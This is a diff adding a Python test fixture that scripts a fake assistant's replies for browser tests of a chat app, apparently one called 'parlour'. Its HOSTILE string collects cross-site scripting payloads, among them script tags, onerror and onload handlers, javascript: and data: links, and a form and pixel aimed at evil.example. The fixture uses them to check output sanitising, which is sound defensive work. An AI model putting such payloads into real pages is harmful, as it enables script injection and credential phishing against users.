@@ -1,0 +1,125 @@
+"""What the scripted model says in the browser tests."""
+
+from __future__ import annotations
+
+import base64
+import sys
+from pathlib import Path
+from typing import Any
+
+from parlour.settings import McpServer
+
+SVG = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").decode()
+HOSTILE = f"""Before the attack.
+
+<script>alert('script')</script>
+
+<img src="x" onerror="alert('img')">
+
+<iframe src="https://evil.example/frame"></iframe>
+
+<svg onload="alert('svg')"></svg>
+
+<style>body {{ display: none }}</style>
+
+<form action="https://evil.example/form"><input name="a"><button>Sign in</button></form>
+
+<a href="javascript:alert('anchor')" onclick="alert('click')">anchor</a>
+
+[link](javascript:alert('link')) and [page](data:text/html,<script>alert('data')</script>)
+
+![remote](https://evil.example/pixel.png) and ![inline](data:image/svg+xml;base64,{SVG})
+
+| a | b |
+| - | - |
+| <img src=x onerror="alert('cell')"> | [cell](javascript:alert('cell')) |
+
+After the attack.
+"""
+NUMBERS = " ".join(str(number) for number in range(1, 151))
+
+MARKDOWN = """It is **409.5**.
+
+- one
+- two
+
+| city | share |
+| :-- | --: |
+| Porto | 41 % |
+| Lyon | 59 % |
+
+```python
+print(17.5 / 100 * 2340)
+```
+"""
+
+SCRIPT: list[dict[str, Any]] = [
+    {
+        "when": "17.5",
+        "needs": ["parlour__calculator"],
+        "rounds": [
+            [
+                {"reasoning": "Arithmetic. I use the calculator."},
+                {
+                    "calls": [
+                        {
+                            "name": "parlour__calculator",
+                            "arguments": {"expression": "17.5 / 100 * 2340"},
+                        }
+                    ]
+                },
+            ],
+            [{"text": MARKDOWN}, {"usage": {"input": 1200, "cache_read": 800, "output": 45}}],
+        ],
+    },
+    {
+        "when": "orders",
+        "needs": ["shop__search_orders"],
+        "rounds": [
+            [
+                {"reasoning": "The shop knows its orders; I look there."},
+                {"calls": [{"name": "shop__search_orders", "arguments": {}}]},
+            ],
+            [{"text": "There are **four orders**; the largest went to Dune Optics in Tunis."}],
+        ],
+    },
+    {
+        "when": "evil tool",
+        "needs": ["shop__hostile"],
+        "rounds": [
+            [{"calls": [{"name": "shop__hostile", "arguments": {"x": "<img src=x>"}}]}],
+            [{"text": "It said: {{result}}"}],
+        ],
+    },
+    {"when": "evil text", "steps": [{"text": HOSTILE}]},
+    {"when": "count", "steps": [{"text": NUMBERS, "pace": 60}]},
+    {
+        "when": "think",
+        "steps": [
+            {"reasoning": "A long thought."},
+            {"gate": "thought"},
+            {"text": "Thought and said."},
+        ],
+    },
+    {"when": "quiet", "steps": [{"gate": "begin"}, {"text": "At last."}]},
+    {
+        "when": "gate",
+        "steps": [{"text": "Before the gate. "}, {"gate": "middle"}, {"text": "After the gate."}],
+    },
+    {"when": "fail", "steps": [{"text": "Half an answer"}, {"cut": True}]},
+    {
+        "when": "broken tool",
+        "rounds": [
+            [{"calls": [{"name": "parlour__calculator", "arguments": {"expression": "1 / 0"}}]}],
+            [{"text": "That cannot be done."}],
+        ],
+    },
+    {"when": "wide", "steps": [{"text": "W" * 400 + "\n\n```\n" + "x = 1; " * 80 + "\n```\n"}]},
+    {"when": "hello", "steps": [{"text": "Hello there, friend."}]},
+]
+
+SHOP = {
+    "shop": McpServer.model_validate(
+        {"command": sys.executable, "args": [str(Path(__file__).with_name("shop_server.py"))]}
+    )
+}
